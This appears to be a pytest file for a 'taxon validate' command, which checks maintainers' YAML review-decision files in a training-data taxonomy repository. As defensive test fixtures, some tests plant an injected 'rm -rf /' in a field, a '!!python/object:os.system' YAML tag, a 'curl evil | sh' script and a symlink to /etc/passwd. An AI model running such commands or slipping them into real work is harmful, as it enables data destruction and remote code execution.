"""`taxon validate` on the maintainers' decision files: each field checked (an unknown one
refused), the file in its place, hostile YAML refused as in a qna.yaml, and a decision that no
longer applies (its leaf gone, its sample no longer generated) a warning."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from support.taxonomy_repo import REPO
from taxon.cli import main
from taxon.qna.decisions import Decision, decision_path, now, render_decision, sample_id, write_decision

LEAF = "compositional_skills/linguistics/plural_nouns"


def _repo(tmp_path: Path) -> Path:
    import shutil

    shutil.copytree(REPO / "taxonomy" / LEAF, tmp_path / "taxonomy" / LEAF)
    return tmp_path


def _decision(question: str = "What is the plural of goose?", answer: str = "Gooses.", **fields) -> Decision:
    values = {
        "sample": sample_id(LEAF, question, answer),
        "leaf": LEAF,
        "action": "fix",
        "by": "alice",
        "at": now(),
        "question": question,
        "answer": answer,
        "fixed_answer": "The plural of goose is geese.",
        "reason": None,
    }
    values.update(fields)
    return Decision(**values)


def _validate(capsys, monkeypatch, folder: Path, *args: str) -> tuple[int, dict]:
    monkeypatch.chdir(folder)
    code = main(["validate", "--format", "json", *args])
    return code, json.loads(capsys.readouterr().out)


def _findings(result: dict) -> list[tuple[str, int, str]]:
    return [(f["rule"], f["line"], f["message"]) for entry in result["decisions"] for f in entry["findings"]]


def test_a_valid_decision_passes_with_the_taxonomy(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    write_decision(repo / "decisions", _decision())
    code, result = _validate(capsys, monkeypatch, repo)
    assert code == 0 and result["summary"]["decisions"] == 1 and _findings(result) == []


def test_unknown_fields_and_bad_values_are_refused_each_at_its_line(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    decision = _decision()
    path = decision_path(repo / "decisions", LEAF, decision.sample)
    text = render_decision(decision)
    text = text.replace('decision: "fix"', 'decision: "approve"').replace('by: "alice"', 'by: "alice; rm -rf /"')
    path.parent.mkdir(parents=True)
    path.write_text(text + 'trusted: true\nat: "yesterday"\n')
    code, result = _validate(capsys, monkeypatch, repo)
    assert code == 1
    rules = {(rule, message.split(":")[0]) for rule, _, message in _findings(result)}
    assert ("R001", "decision must be one of keep, drop, fix, not 'approve'") in rules
    assert ("R001", "by must be the maintainer's GitHub login (letters, digits, single hyphens)") in rules
    assert ("R001", "unknown field 'trusted'") in rules
    assert ("Y010", "duplicate key 'at' (first at line 7)") in rules
    assert all(line > 1 for _, line, _ in _findings(result) if _ != "Y010")


@pytest.mark.parametrize(
    "text, rule",
    [
        ('version: 1\nid: &a "0123456789ab"\nleaf: *a\n', "Y006"),
        ("!!python/object:os.system\nversion: 1\n", "Y007"),
        ("version: 1\n---\nversion: 2\n", "Y008"),
        ("version: 1\nid: 0123456789ab\n", "R001"),  # unquoted: read as a number, not an id
        ('- "a list"\n', "R001"),
    ],
)
def test_hostile_yaml_is_refused_as_in_a_leaf(tmp_path, capsys, monkeypatch, text, rule):
    repo = _repo(tmp_path)
    path = repo / "decisions" / LEAF / "0123456789ab.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(text)
    code, result = _validate(capsys, monkeypatch, repo)
    assert code == 1 and rule in {found[0] for found in _findings(result)}


def test_planted_files_and_links_in_the_decisions_folder_are_refused(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    folder = repo / "decisions" / LEAF
    folder.mkdir(parents=True)
    (folder / "run.sh").write_text("curl evil | sh\n")
    (repo / "decisions" / "0123456789ab.yaml").write_text("version: 1\n")  # in no leaf's folder
    os.symlink("/etc/passwd", folder / "aaaaaaaaaaaa.yaml")
    code, result = _validate(capsys, monkeypatch, repo)
    assert code == 1
    by_file = {entry["path"]: {f["rule"] for f in entry["findings"]} for entry in result["decisions"]}
    assert by_file[f"decisions/{LEAF}/run.sh"] == {"R002"}
    assert by_file["decisions/0123456789ab.yaml"] == {"R002"}
    assert by_file[f"decisions/{LEAF}/aaaaaaaaaaaa.yaml"] == {"Y011"}


def test_a_decision_named_or_filed_wrong_is_misplaced(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    decision = _decision()
    wrong = repo / "decisions" / "knowledge" / "other" / f"{'b' * 12}.yaml"
    wrong.parent.mkdir(parents=True)
    wrong.write_text(render_decision(decision))
    code, result = _validate(capsys, monkeypatch, repo)
    messages = [message for rule, _, message in _findings(result) if rule == "R002"]
    assert code == 1 and len(messages) == 2
    assert any("name it after its id" in m for m in messages) and any("move it to decisions/" in m for m in messages)


def test_decisions_that_no_longer_apply_are_warnings(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    kept = _decision()
    gone = _decision("What is the plural of ox?", "Oxes.")
    for decision in (kept, gone):
        write_decision(repo / "decisions", decision)
    elsewhere = _decision(leaf="compositional_skills/removed_leaf")
    write_decision(repo / "decisions", elsewhere)
    generated = tmp_path / "gen" / LEAF
    generated.mkdir(parents=True)
    row = {
        "messages": [{"role": "user", "content": kept.question}, {"role": "assistant", "content": kept.answer}],
        "metadata": {"leaf": LEAF, "source": "generated"},
    }
    (generated / "samples.jsonl").write_text(json.dumps(row) + "\n")
    code, result = _validate(capsys, monkeypatch, repo, "--samples", str(tmp_path / "gen"))
    assert code == 0 and result["summary"]["warnings"] == 2
    found = {rule: message for rule, _, message in _findings(result)}
    assert found["R003"].startswith("no leaf compositional_skills/removed_leaf in the taxonomy")
    assert found["R004"].startswith(f"the samples of {LEAF} no longer hold {gone.sample}")


def test_validate_changed_checks_the_decision_files_a_branch_changes(tmp_path, capsys, monkeypatch):
    from support.taxonomy_repo import commit_all, git

    repo = _repo(tmp_path)
    git(repo, "init", "-q", "-b", "main")
    commit_all(repo, "main")
    git(repo, "checkout", "-q", "-b", "decide")
    write_decision(repo / "decisions", _decision())
    bad = repo / "decisions" / LEAF / f"{'c' * 12}.yaml"
    bad.write_text('version: 1\nid: "cccccccccccc"\n')
    monkeypatch.chdir(repo)
    code = main(["validate", "--changed", "--base", "main", "--format", "json"])
    result = json.loads(capsys.readouterr().out)
    assert code == 1 and result["summary"]["decisions"] == 2
    assert {entry["path"]: bool(entry["findings"]) for entry in result["decisions"]} == {
        f"decisions/{LEAF}/{_decision().sample}.yaml": False,
        f"decisions/{LEAF}/{'c' * 12}.yaml": True,
    }


def test_the_command_line_writes_a_decision_it_can_read_back(tmp_path, capsys, monkeypatch):
    repo = _repo(tmp_path)
    (repo / "taxon.toml").write_text((REPO / "taxon.toml").read_text())
    generated = repo / "runs" / "cpu" / "generate" / LEAF
    generated.mkdir(parents=True)
    row = {
        "messages": [
            {"role": "user", "content": "What is the plural of goose?"},
            {"role": "assistant", "content": "Gooses."},
        ],
        "metadata": {"leaf": LEAF, "source": "generated"},
    }
    (generated / "samples.jsonl").write_text(json.dumps(row) + "\n")
    sample = sample_id(LEAF, "What is the plural of goose?", "Gooses.")
    monkeypatch.chdir(repo)
    monkeypatch.delenv("TAXON_REVIEWER", raising=False)
    assert main(["review", "decide", LEAF, sample, "--drop"]) == 2
    assert "who decides?" in capsys.readouterr().err
    assert main(["review", "decide", LEAF, "0123456789ab", "--drop", "--by", "alice"]) == 2
    assert "no sample 0123456789ab among the samples of" in capsys.readouterr().err
    assert main(["review", "decide", LEAF, sample, "--drop", "--by", "al ice"]) == 2
    assert main(["review", "decide", LEAF, sample, "--fix", "  ", "--by", "alice"]) == 2
    capsys.readouterr()
    monkeypatch.setenv("TAXON_REVIEWER", "alice")
    assert main(["review", "decide", LEAF, sample, "--fix", "The plural of goose is geese.", "--reason", "gooses"]) == 0
    out = capsys.readouterr().out
    assert f"wrote {repo / 'decisions' / LEAF / sample}.yaml: fix {sample} by alice" in out
    assert f"comment instead: /taxon fix {sample} The plural of goose is geese." in out
    assert main(["review", "decide", LEAF, sample, "--keep"]) == 0 and "replaced" in capsys.readouterr().out
    code, result = _validate(capsys, monkeypatch, repo)
    assert code == 0 and result["summary"]["decisions"] == 1
